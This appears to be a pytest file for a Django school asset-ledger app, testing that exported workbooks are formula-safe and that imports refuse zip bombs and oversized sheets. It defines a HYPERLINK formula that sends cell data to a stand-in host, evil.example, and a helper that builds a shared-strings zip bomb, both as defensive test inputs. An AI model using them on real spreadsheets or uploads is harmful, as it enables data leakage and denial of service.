"""Every workbook the app writes is formula-safe (one writer in core.exports); every workbook it
reads is bounded (core.workbooks.read_sheet): a zip bomb, a sheet too wide or too long is refused
with one sentence, fast and in flat memory. The import template's sample row is never imported
and its choice columns have drop-downs."""

import ast
import io
import pathlib
import time
import tracemalloc
import zipfile
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from assets import imports
from assets.models import Asset, AssetCategory
from core import workbooks
from tests.assets.factories import room_of

pytestmark = pytest.mark.django_db

ROOT = pathlib.Path(__file__).resolve().parents[2]
NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'


def xlsx(rows, *, headers=None, name="台账.xlsx") -> SimpleUploadedFile:
    book = Workbook()
    sheet = book.active
    sheet.append(headers or [c.header for c in imports.COLUMNS])
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return SimpleUploadedFile(name, out.getvalue())


def row(**values):
    base = {"name": "电脑", "category": "2101", "unit_price": 5000, "purchase_date": "2023-09-01"}
    return [{**base, **values}.get(c.key) for c in imports.COLUMNS]


def template_book(school):
    return load_workbook(imports.template_workbook(school))  # not data_only: formulas stay


@pytest.fixture
def categories(school):
    from assets import services

    services.categories_seed_defaults(school)
    return {c.code: c for c in AssetCategory.objects.filter(school=school)}


def test_only_core_opens_or_creates_workbooks():
    """A module writing its own openpyxl Workbook would bypass the formula guard and the bounds."""
    allowed = {"core/exports.py", "core/workbooks.py"}
    offenders = []
    for path in ROOT.glob("*/**/*.py"):
        relative = path.relative_to(ROOT).as_posix()
        if relative.startswith((".venv/", "tests/")) or relative in allowed:
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
                names = {alias.name for alias in node.names}
                if names & {"Workbook", "load_workbook"}:
                    offenders.append(relative)
    assert offenders == []


def test_a_category_named_as_a_formula_stays_text_in_the_template(school):
    AssetCategory.objects.create(school=school, code="9901", name=EVIL, useful_life_years=5)
    book = template_book(school)
    cells = [
        cell
        for sheet in book.worksheets
        for line in sheet.iter_rows()
        for cell in line
        if isinstance(cell.value, str) and "HYPERLINK" in cell.value
    ]
    assert len(cells) == 2  # the code sheet and the drop-down list
    for cell in cells:
        assert cell.data_type == "s"  # text, never "f" (a formula)
    assert [c.quotePrefix for c in cells if c.value.startswith("=")] == [True]


def test_the_template_has_drop_downs_from_a_hidden_sheet(school, categories):
    room_of(school, name="科学实验室", code="201")
    book = template_book(school)
    ledger, lists = book.worksheets[0], book[imports.LISTS_SHEET]
    assert lists.sheet_state == "hidden"
    by_column = {
        str(v.sqref).split(":")[0].rstrip("0123456789"): v
        for v in ledger.data_validations.dataValidation
    }
    letters = {c.key: chr(ord("A") + i) for i, c in enumerate(imports.COLUMNS)}
    for key in ("category", "room", "source", "funding_source"):
        validation = by_column[letters[key]]
        assert validation.type == "list" and imports.LISTS_SHEET in validation.formula1
    offered = [line for line in lists.values]
    assert any(value and value.startswith("2101 ") for value, *_ in offered[1:])
    assert any("科学实验室" in (line[1] or "") for line in offered[1:])


def test_the_drop_down_values_import_as_they_are_offered(school, categories, make_user):
    room = room_of(school, name="科学实验室", code="201")
    book = template_book(school)
    lists = list(book[imports.LISTS_SHEET].values)
    category, room_label = lists[1][0], next(line[1] for line in lists[1:] if line[1])
    upload = xlsx([row(category=category, room=room_label, source="捐赠")])
    created = imports.import_ledger(school=school, actor=make_user("logistics"), upload=upload)
    assert created[0].room == room and created[0].category.code == category.split()[0]


def test_the_sample_row_left_in_is_refused_and_nothing_is_imported(school, categories, make_user):
    book = template_book(school)
    sample = list(book.worksheets[0].values)[1]
    assert str(sample[1]).startswith("【示例】")
    upload = xlsx([list(sample), row()])
    with pytest.raises(imports.ImportRefused) as refused:
        imports.import_ledger(school=school, actor=make_user("logistics"), upload=upload)
    assert [(p.row, p.column) for p in refused.value.problems] == [(2, "资产名称")]
    assert "示例行" in refused.value.problems[0].reason
    assert not Asset.objects.filter(unit_price=Decimal("12800")).exists()


def shared_strings_bomb(expanded_mb: int) -> SimpleUploadedFile:
    """A real workbook whose shared-strings part inflates to `expanded_mb` MB (a few hundred KB
    on disk): openpyxl writes inline strings, so the part and its references are added here."""
    source = xlsx([row(name="x")]).read()
    text = "A" * (expanded_mb * 2**20)
    parts = {
        "xl/sharedStrings.xml": f'<sst xmlns="{NS}" count="1" uniqueCount="1"><si><t>{text}</t>'
        "</si></sst>",
    }
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(source)) as original, zipfile.ZipFile(out, "w") as bomb:
        for item in original.infolist():
            data = original.read(item).decode()
            if item.filename == "[Content_Types].xml":
                data = data.replace(
                    "</Types>",
                    '<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                    'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
                )
            if item.filename == "xl/_rels/workbook.xml.rels":
                data = data.replace(
                    "</Relationships>",
                    '<Relationship Id="rIdS" Type="http://schemas.openxmlformats.org/officeDocument'
                    '/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
                )
            bomb.writestr(item.filename, data, compress_type=zipfile.ZIP_DEFLATED)
        for name, data in parts.items():
            bomb.writestr(name, data, compress_type=zipfile.ZIP_DEFLATED)
    return SimpleUploadedFile("台账.xlsx", out.getvalue())


def test_a_shared_strings_bomb_is_refused_before_it_is_inflated(school, make_user):
    upload = shared_strings_bomb(100)  # 100 KB on disk; 635 MB of RSS at 300 MB unguarded
    assert upload.size < 2 * 2**20  # small on disk
    tracemalloc.start()
    started = time.monotonic()
    with pytest.raises(imports.ImportRefused) as refused:
        imports.import_ledger(school=school, actor=make_user("logistics"), upload=upload)
    elapsed = time.monotonic() - started
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert "MB" in refused.value.message
    assert elapsed < 2 and peak < 20 * 2**20


def test_a_value_beyond_the_column_bound_is_refused():
    wide = [None] * 21
    wide[0], wide[20] = "a", "one column too far"
    with pytest.raises(workbooks.WorkbookRefused) as refused:
        workbooks.read_sheet(
            xlsx([wide], headers=["h"]), max_bytes=2**20, max_rows=10, max_columns=20
        )
    assert "20" in refused.value.message


def test_too_many_rows_and_a_million_empty_rows_are_refused_fast():
    with pytest.raises(workbooks.WorkbookRefused):
        workbooks.read_sheet(
            xlsx([["x"]] * 30, headers=["h"]), max_bytes=2**20, max_rows=20, max_columns=5
        )
    book = Workbook()
    book.active["A1"] = "h"
    book.active["A2"] = "x"
    book.active["A1000000"] = ""  # Excel keeps formatted empty rows: a dimension of a million
    book.active.cell(1000000, 1).value = " "
    out = io.BytesIO()
    book.save(out)
    started = time.monotonic()
    with pytest.raises(workbooks.WorkbookRefused) as refused:
        workbooks.read_sheet(
            SimpleUploadedFile("x.xlsx", out.getvalue()),
            max_bytes=2**20,
            max_rows=100,
            max_columns=5,
        )
    assert time.monotonic() - started < 2
    assert "行" in refused.value.message


def test_a_normal_ledger_still_reads(school, categories, make_user):
    upload = xlsx([row(), row(name="显微镜", category="2201")])
    created = imports.import_ledger(school=school, actor=make_user("logistics"), upload=upload)
    assert len(created) == 2
